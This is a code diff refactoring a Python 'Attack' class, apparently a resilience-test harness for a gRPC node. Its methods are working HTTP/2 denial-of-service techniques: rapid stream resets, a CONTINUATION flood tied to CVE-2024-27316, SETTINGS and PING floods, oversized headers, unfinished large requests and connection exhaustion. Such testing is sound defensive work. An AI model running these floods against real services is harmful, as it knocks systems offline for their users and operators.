@@ -62,15 +62,10 @@ class Attack:
     """
 
     def __init__(self, tls: TLSConfig, address: str, node_id: str) -> None:
-        self._context = client_context(tls)
-        self._address = address
-        self._node_id = node_id
+        self.context = client_context(tls)
+        self.address = address
+        self.node_id = node_id
         self._held: list[Connection] = []
-
-    def run(self, kind: str, seconds: float) -> int:
-        """Runs one of `KINDS`; returns how many frames, calls or connections it sent."""
-        until = time.monotonic() + seconds
-        return int(KINDS[kind](self, until))
 
     def release(self) -> None:
         """Closes all that it holds."""
@@ -78,17 +73,19 @@ class Attack:
             connection.close()
         self._held.clear()
 
-    def _connect(self) -> Connection:
-        return Connection(self._address, self._node_id, self._context, timeout=5.0)
+    def connect(self) -> Connection:
+        """Opens a connection, and holds it until `release`."""
+        connection = Connection(self.address, self.node_id, self.context, timeout=5.0)
+        self._held.append(connection)
+        return connection
 
-    def _flood(self, until: float, batch: Callable[[Connection], bytes], rate: float) -> int:
+    def flood(self, until: float, batch: Callable[[Connection], bytes], rate: float) -> int:
         """Sends batches of frames, at most `rate` frames a second, and reads what is answered."""
         sent = 0
         began = time.monotonic()
         while time.monotonic() < until:
             try:
-                connection = self._connect()
-                self._held.append(connection)
+                connection = self.connect()
                 while time.monotonic() < until:
                     connection.send(batch(connection))
                     sent += BATCH
@@ -103,17 +100,17 @@ class Attack:
         return sent
 
     def open_streams(self, until: float) -> int:
-        block = request_headers(path("Echo"), self._node_id)
+        block = request_headers(path("Echo"), self.node_id)
 
         def batch(connection: Connection) -> bytes:
             return b"".join(
                 frame(HEADERS, connection.next_stream(), block, END_HEADERS) for _ in range(BATCH)
             )
 
-        return self._flood(until, batch, RATE)
+        return self.flood(until, batch, RATE)
 
     def reset_streams(self, until: float) -> int:
-        block = request_headers(path("Echo"), self._node_id)
+        block = request_headers(path("Echo"), self.node_id)
 
         def batch(connection: Connection) -> bytes:
             frames = []
@@ -123,18 +120,18 @@ class Attack:
                 frames.append(frame(RST_STREAM, stream, CANCEL))
             return b"".join(frames)
 
-        return self._flood(until, batch, 1e9)
+        return self.flood(until, batch, 1e9)
 
     def settings(self, until: float) -> int:
         one = frame(SETTINGS, 0, struct.pack(">HI", 4, 65_535))
-        return self._flood(until, lambda _: one * BATCH, 1e9)
+        return self.flood(until, lambda _: one * BATCH, 1e9)
 
     def pings(self, until: float) -> int:
-        return self._flood(until, lambda _: frame(PING, 0, b"12345678") * BATCH, 1e9)
+        return self.flood(until, lambda _: frame(PING, 0, b"12345678") * BATCH, 1e9)
 
     def endless_headers(self, until: float) -> int:
         """Sends header blocks that do not end (CONTINUATION frames, CVE-2024-27316)."""
-        begin = request_headers(path("Echo"), self._node_id)
+        begin = request_headers(path("Echo"), self.node_id)
         more = (b"\x00\x01x" + b"\x7e" + b"y" * 126) * 100
         streams: dict[Connection, int] = {}
 
@@ -145,15 +142,15 @@ class Attack:
                 first = frame(HEADERS, stream, begin)
             return first + frame(CONTINUATION, streams[connection], more) * BATCH
 
-        return self._flood(until, batch, 1e9)
+        return self.flood(until, batch, 1e9)
 
     def long_headers(self, until: float) -> int:
         """Calls with 2.4 MB of headers in 10 KB: a header that is sent once and named 600 times.
 
         gRPC bounds the headers of a frame, not of a call.
         """
-        known = request_headers(path("Echo"), self._node_id) + indexed_header(b"x-a", b"v" * 4000)
-        block = request_headers(path("Echo"), self._node_id)
+        known = request_headers(path("Echo"), self.node_id) + indexed_header(b"x-a", b"v" * 4000)
+        block = request_headers(path("Echo"), self.node_id)
         connections: set[Connection] = set()
 
         def batch(connection: Connection) -> bytes:
@@ -167,13 +164,13 @@ class Attack:
                 frames.append(frame(CONTINUATION, stream, b"", END_HEADERS))
             return b"".join(frames)
 
-        return self._flood(until, batch, RATE)
+        return self.flood(until, batch, RATE)
 
     def malformed(self, until: float) -> int:
         """Calls the mesh's own service with one byte that is no message."""
         sent = 0
         while time.monotonic() < until:
-            with suppress(OSError), self._connect() as connection:
+            with suppress(OSError), self.connect() as connection:
                 while time.monotonic() < until:
                     for _ in range(BATCH):
                         connection.call(PING_METHOD, b"\xff")
@@ -185,7 +182,7 @@ class Attack:
 
     def reset_requests(self, until: float) -> int:
         """Calls, and resets each call when its request is complete."""
-        block = request_headers(path("Echo"), self._node_id)
+        block = request_headers(path("Echo"), self.node_id)
         data = message(b"x" * 64)
 
         def batch(connection: Connection) -> bytes:
@@ -197,9 +194,9 @@ class Attack:
                 frames.append(frame(RST_STREAM, stream, CANCEL))
             return b"".join(frames)
 
-        return self._flood(until, batch, 1e9)
+        return self.flood(until, batch, 1e9)
 
-    def unfinished_requests(self, until: float) -> int:
+    def unfinished_requests(self, until: float, method: str = "Echo") -> int:
         """Calls whose requests of 4 MB lack the last byte: a server keeps what it has of each."""
         size = 4 * 1024 * 1024 - 64
         parts = [struct.pack(">BI", 0, size) + b"x" * (MAX_FRAME - 5)]
@@ -207,13 +204,12 @@ class Attack:
         sent = 0
         while time.monotonic() < until:
             with suppress(OSError):
-                connection = self._connect()
-                self._held.append(connection)
+                connection = self.connect()
                 connection.socket.settimeout(0.1)
                 waiting: dict[int, tuple[int, int]] = {}  # parts sent, window of the stream
                 while time.monotonic() < until:
                     if len(waiting) < UNFINISHED:
-                        waiting[connection.open(path("Echo"))] = 0, 65_535
+                        waiting[connection.open(path(method))] = 0, 65_535
                     for stream, (number, window) in list(waiting.items()):
                         while (
                             number < len(parts)
@@ -236,7 +232,7 @@ class Attack:
 
     def idle(self, until: float) -> int:
         """Opens TCP connections without TLS, again when the node closes them."""
-        host, port = self._address.rsplit(":", 1)
+        host, port = self.address.rsplit(":", 1)
         opened = 0
         held: list[socket.socket] = []
         while time.monotonic() < until:
@@ -256,7 +252,7 @@ class Attack:
         """Opens TLS connections, and holds them."""
         with suppress(OSError):
             while time.monotonic() < until and len(self._held) < CONNECTIONS:
-                self._held.append(self._connect())
+                self.connect()
         opened = len(self._held)
         time.sleep(max(0.0, until - time.monotonic()))
         return opened
